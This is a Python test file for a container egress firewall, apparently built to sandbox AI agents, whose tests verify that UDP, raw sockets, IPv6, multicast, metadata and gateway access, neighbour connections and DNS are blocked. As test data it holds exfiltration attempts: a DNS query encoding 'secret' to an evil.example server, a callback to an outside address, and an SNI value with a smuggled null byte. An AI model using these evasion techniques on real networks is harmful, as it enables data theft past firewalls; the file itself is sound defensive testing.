"""Attacks below names: addresses, other protocols, other interfaces, neighbours (18-23, 44, 46, 47)."""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Callable
from typing import Any

import pytest

from tests.firewall.common import nothing_left, refused, request, with_allowed
from tests.firewall.conftest import POLICY
from tests.firewall.lab.box import Box
from tests.firewall.lab.network import EVIL, EVIL6, LAN, METADATA, RESOLVER, SHARED, SHARED6, Lab

pytestmark = pytest.mark.real
attack = pytest.mark.attack


@attack(
    18, "UDP 443 (QUIC), 123, 9999 to a stranger and to an allowed address", "EPERM at once; nothing left"
)
def test_udp(box: Box, lab: Lab) -> None:
    since = lab.now()
    targets = [(EVIL, 443), (SHARED, 443), (EVIL, 9999), (EVIL, 123)]
    targets += [(EVIL6, 443), (SHARED6, 443), (EVIL6, 9999)] if box.engine.ipv6 else []
    for answer in box.probe(*(("udp", {"address": address, "port": port}) for address, port in targets)):
        assert answer["error"] in ("EPERM", "ECONNREFUSED", "EACCES")
        assert answer["ms"] < 100
    nothing_left(box, since)
    rows = box.rows(layer="l3", verdict="deny", proto="udp", uid=1000)
    assert {(row["dst"], row["port"]) for row in rows} >= set(targets)


@attack(19, "ICMP socket, raw socket, AF_PACKET, SO_MARK, IP_TRANSPARENT, SCTP", "refused; nothing left")
def test_raw(box: Box, lab: Lab) -> None:
    since = lab.now()
    kinds = ("ping-socket", "raw", "packet", "mark", "transparent", "sctp")
    words = ("EPERM", "EACCES", "EPROTONOSUPPORT", "ECONNREFUSED", "EAFNOSUPPORT", "ESOCKTNOSUPPORT")
    for start in ("agent", "plain"):
        answers = box.probe(*(("raw", {"what": kind}) for kind in kinds), start=start)
        assert not [kind for kind, a in zip(kinds, answers, strict=True) if a.get("error") not in words]
    nothing_left(box, since)


@attack(19, "ping", "not there or refused; nothing left")
def test_ping(box: Box, lab: Lab) -> None:
    since = lab.now()
    assert box.try_one("run", argv=["ping", "-c1", "-W1", EVIL])["code"] != 0
    nothing_left(box, since)


@attack(20, "IPv6: TLS without and with a denied name, other ports", "denied; nothing left")
def test_ipv6(box: Box, lab: Lab) -> None:
    since = lab.now()
    for sni, address in (("", EVIL6), ("blocked.example", SHARED6), ("blocked.example", EVIL6)):
        assert not box.try_one("hello", sni=sni, address=address).get("answered")
    for port in (22, 853, 8080):
        assert refused(box.try_one("tcp", address=EVIL6, port=port))
    if not box.engine.ipv6:
        nothing_left(box, since)
        pytest.skip("no IPv6 in this engine's network; nothing left it")
    assert box.try_one("http", address=SHARED6, text=request("blocked.example"))["data"].startswith(
        "HTTP/1.1 403"
    )
    nothing_left(box, since)
    assert box.rows(layer="l3", verdict="deny", dst=EVIL6, port=8080, uid=1000)


@attack(20, "an allowed name over IPv6", "works, checked by name like over IPv4")
def test_ipv6_allowed(box: Box, lab: Lab) -> None:
    if not box.engine.ipv6:
        pytest.skip("no IPv6 in this engine's network")
    since = lab.now()
    assert box.try_one("https", name="allowed.example", address=EVIL6)["who"] == "allowed.example"
    assert not [packet for packet in box.left(since) if packet[1] == EVIL6]


@attack(
    20, "services of the machine on the bridge's link-local and global IPv6 address", "denied; nothing left"
)
def test_ipv6_gateway(box: Box, lab: Lab) -> None:
    since = lab.now()
    for address in machine_addresses(box, lab):
        scope = "eth0" if address.startswith("fe80") else ""
        assert refused(box.try_one("tcp", address=address, port=8080, scope=scope))
    nothing_left(box, since)


def machine_addresses(box: Box, lab: Lab) -> list[str]:
    """IPv6 addresses of the machine on the container's link; each would answer on port 8080."""
    found = subprocess.run(lab.on_host("ip", "-j", "addr"), capture_output=True, text=True, check=True).stdout
    links = [
        link for link in json.loads(found) if any(a["local"] == box.engine.gateway for a in link["addr_info"])
    ]
    addresses = [a["local"] for link in links for a in link["addr_info"] if a["family"] == "inet6"]
    assert [a for a in addresses if a.startswith("fe80")]
    return addresses


@attack(21, "multicast and broadcast, directed and by interface", "EPERM; nothing left")
def test_multicast(box: Box, lab: Lab) -> None:
    since = lab.now()
    directed = box.engine.gateway.rpartition(".")[0] + ".255"
    targets = [
        ("224.0.0.251", 5353, ""),
        ("224.0.0.251", 5353, "eth0"),
        ("239.255.255.250", 1900, "eth0"),
        ("255.255.255.255", 9999, ""),
        (directed, 9999, ""),
        ("ff02::fb", 5353, "eth0"),
        ("ff02::1", 9999, "eth0"),
    ]
    for answer in box.probe(*(("udp", {"address": a, "port": p, "multicast": m}) for a, p, m in targets)):
        assert answer["error"] in ("EPERM", "EACCES", "ENETUNREACH")
    nothing_left(box, since)


@attack(22, "a socket bound to the interface, to a stranger and to the machine", "refused; nothing left")
def test_bind_to_device(box: Box, lab: Lab) -> None:
    since = lab.now()
    for address, port in ((EVIL, 8080), (EVIL, 443), (box.engine.gateway, 8080), (METADATA[0], 80)):
        answer = box.try_one("tcp", address=address, port=port, device="eth0", send="x", seconds=1)
        assert "LAB" not in answer.get("data", "")
    answer = box.try_one("udp", address=EVIL, port=53, device="eth0")
    assert "reply" not in answer or "evil" not in answer["reply"]
    nothing_left(box, since)


@pytest.mark.parametrize("where", ["metadata", "metadata6", "gateway", "lan", "name"])
@attack(
    23, "metadata, services of the machine, LAN, the engine's name for the machine", "denied; nothing left"
)
def test_surroundings(box: Box, lab: Lab, where: str) -> None:
    address = {
        "metadata": METADATA[0],
        "metadata6": METADATA[1],
        "gateway": box.engine.gateway,
        "lan": LAN,
        "name": box.engine.gateway,
    }[where]
    since = lab.now()
    if where == "name":
        box.try_one("https", name=box.engine.host_name())
    for port in (8080, 5432, 22):
        assert refused(box.try_one("tcp", address=address, port=port))
    answer = box.try_one(
        "http", address=address, text=request(address if ":" not in address else f"[{address}]")
    )
    assert refused(answer) or answer["data"].startswith(("HTTP/1.1 403", "HTTP/1.1 400"))
    nothing_left(box, since)


@attack(23, "a service of the machine that the policy names, and its neighbours", "that port works, no other")
def test_host_service(own: Callable[..., Box], lab: Lab) -> None:
    box = own({**POLICY, "host": [5432]})
    address = box.try_one("resolve", name="host.contenant.internal")["addresses"][0]
    assert box.try_one("tcp", address=address, port=5432)["data"].startswith("LAB ")
    assert refused(box.try_one("tcp", address=address, port=8080))
    assert refused(box.try_one("tcp", address=box.engine.gateway, port=5432))
    lab.set_zone({"pointed.wild.example": [box.engine.gateway]})
    assert refused(box.try_one("https", name="pointed.wild.example"))
    assert box.rows(layer="tcp", verdict="allow", name="host.contenant.internal", port=5432)


@attack(44, "a neighbour on the same bridge tries the container's ports", "only the declared one answers")
def test_neighbour(own: Callable[..., Box]) -> None:
    box = own()
    serve = "import socket,time\ns=[socket.create_server(('',p)) for p in (3000,5000)]\ntime.sleep(20)"
    listening = subprocess.Popen(
        box.engine.argv("exec", "--user", "1000", box.name, "python3", "-IS", "-c", serve),
        stdin=subprocess.DEVNULL,
    )
    neighbour = own(words=("sleep", "60"), start=False)
    neighbour.start(wait=False)
    try:
        address = next(a for a in box.addresses if a.startswith("10."))
        time.sleep(0.7)
        answers = neighbour.probe(
            ("tcp", {"address": address, "port": 5000, "seconds": 1}),
            ("tcp", {"address": address, "port": 3000, "seconds": 1}),
            ("tcp", {"address": address, "port": 10443, "seconds": 1}),
            ("dns", {"name": "allowed.example", "server": address, "seconds": 1}),
            start="root",
        )
    finally:
        listening.kill()
        listening.wait(10)
    assert "error" not in answers[0]
    assert all("error" in answer for answer in answers[1:])


@attack(
    44,
    "a declared port as a way out: the agent answers a caller, then calls back",
    "the answer works, the call does not",
)
def test_no_way_out_through_a_declared_port(box: Box, lab: Lab) -> None:
    since = lab.now()
    answer = box.try_one("tcp", address=EVIL, port=8080)
    assert refused(answer)
    code = (
        "import socket\ns=socket.socket()\ns.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n"
        "s.bind(('',5000))\ns.settimeout(2)\ns.connect(('45.66.0.66',8080))"
    )
    assert box.agent("python3", "-IS", "-c", code).code != 0
    nothing_left(box, since)


@attack(46, "AF_VSOCK to the local context", "fails")
def test_vsock_local(box: Box) -> None:
    code = (
        "import socket,sys\ntry:\n s=socket.socket(socket.AF_VSOCK,socket.SOCK_STREAM)\n s.settimeout(1)\n"
        " s.connect((1,1024))\nexcept OSError: sys.exit(7)"
    )
    assert box.agent("python3", "-IS", "-c", code).code == 7


@attack(46, "AF_VSOCK to the machine, port 1024, in Apple's virtual machine", "fails; otherwise no release")
def test_vsock_of_apples_machine() -> None:
    """To be run on a Mac, in a container of contenant: `python3 -c` of the code above with (2, 1024)."""
    pytest.skip("needs Apple's virtual machine")


@attack(47, "the whole of it in a container without IPv6", "the same")
def test_without_ipv6(own: Callable[..., Box], lab: Lab) -> None:
    box = own(ipv6=False, env={"CONTENANT_RESOLVER": RESOLVER})
    assert box.try_one("https", name="allowed.example")["status"] == "200"
    assert box.try_one("https", name="x.wild.example")["status"] == "200"
    since = lab.now()
    denied: list[tuple[str, dict[str, Any]]] = [
        ("https", {"name": "blocked.example"}),
        ("https", {"name": "blocked.example", "address": SHARED}),
        ("tcp", {"address": EVIL, "port": 22}),
        ("tcp", {"address": EVIL6, "port": 22}),
        ("udp", {"address": EVIL, "port": 443}),
        ("udp", {"address": EVIL6, "port": 443}),
        ("raw", {"what": "raw"}),
        ("tcp", {"address": METADATA[0], "port": 8080}),
        ("tcp", {"address": box.engine.gateway, "port": 8080}),
    ]
    for answer in box.probe(*denied):
        assert "error" in answer
    for server in (EVIL, RESOLVER, "127.0.0.1"):
        assert box.try_one("dns", name="x.evil.example", server=server)["code"] == 3
    assert not box.try_one("hello", sni="", address=EVIL).get("answered")
    assert not box.try_one("hello", sni="evil.example\0.wild.example", address=SHARED).get("answered")
    nothing_left(box, since)


@attack(
    15,
    "the engine's own resolver on a network that has one (127.0.0.11)",
    "answered here or refused; no trace",
)
def test_embedded_resolver(own: Callable[..., Box], lab: Lab) -> None:
    probe = own(start=False)
    docker = probe.engine.name == "docker"
    box = own(network="fwlab1", env={"CONTENANT_RESOLVER": RESOLVER}) if docker else own()
    since = lab.now()
    for over in ("udp", "tcp"):
        answer = box.try_one("dns", name="c2VjcmV0.evil.example", server="127.0.0.11", over=over)
        assert answer.get("code") == 3 or refused(answer)
    assert box.try_one("resolve", name="evil.example")["error"] == "NONAME"
    # Past port 53: docker's resolver listens on ports of its own at that address.
    listening = box.root("sh", "-c", "cat /proc/net/udp /proc/net/tcp").out
    ports = {
        int(line.split()[1].partition(":")[2], 16) for line in listening.splitlines() if " 0B00007F:" in line
    }
    assert ports or not docker
    for port in ports:
        assert "error" in box.try_one("udp", address="127.0.0.11", port=port, data="x")
    nothing_left(box, since)
    assert box.try_one("https", name="allowed.example")["status"] == "200"


@pytest.mark.every_engine
def test_the_lab_itself_lets_everything_out(own: Callable[..., Box], lab: Lab) -> None:
    """The attacks above prove something only if they succeed without a firewall."""
    box = own(with_allowed(POLICY, mode="off"))
    since = lab.now()
    six = (("tcp", {"address": EVIL6, "port": 8080}), ("udp", {"address": EVIL6, "port": 9999}))
    answers = box.probe(
        ("https", {"name": "blocked.example"}),
        *(("tcp", {"address": EVIL, "port": port}) for port in (22, 853, 8080)),
        ("hello", {"sni": "blocked.example", "address": SHARED}),
        ("hello", {"sni": "", "address": EVIL}),
        ("http", {"address": SHARED, "text": request("blocked.example")}),
        ("dns", {"name": "c2VjcmV0.evil.example", "server": EVIL}),
        ("dns", {"name": "c2VjcmV0.evil.example", "server": EVIL, "over": "tcp"}),
        ("dns", {"name": "c2VjcmV0.evil.example", "server": RESOLVER}),
        ("udp", {"address": EVIL, "port": 443}),
        ("http", {"address": METADATA[0], "text": request(METADATA[0])}),
        *(("tcp", {"address": a, "port": 8080}) for a in (METADATA[0], LAN, box.engine.gateway)),
        ("tcp", {"address": EVIL, "port": 8080, "device": "eth0"}),
        ("udp", {"address": "224.0.0.251", "port": 5353, "multicast": "eth0"}),
        ("udp", {"address": "255.255.255.255", "port": 9999, "multicast": "eth0"}),
        *(
            ("tcp", {"address": a, "port": 8080, "scope": "eth0" if a.startswith("fe80") else ""})
            for a in machine_addresses(box, lab)
        ),
        *(six if box.engine.ipv6 else ()),
    )
    assert not [answer for answer in answers if "error" in answer]
    assert ("udp", EVIL, 53, "c2VjcmV0.evil.example") in box.left(since)
    assert lab.arrived(since, kind="dns", server=EVIL, name="c2VjcmV0.evil.example")
    assert lab.arrived(since, kind="udp", dst=EVIL, port=443)
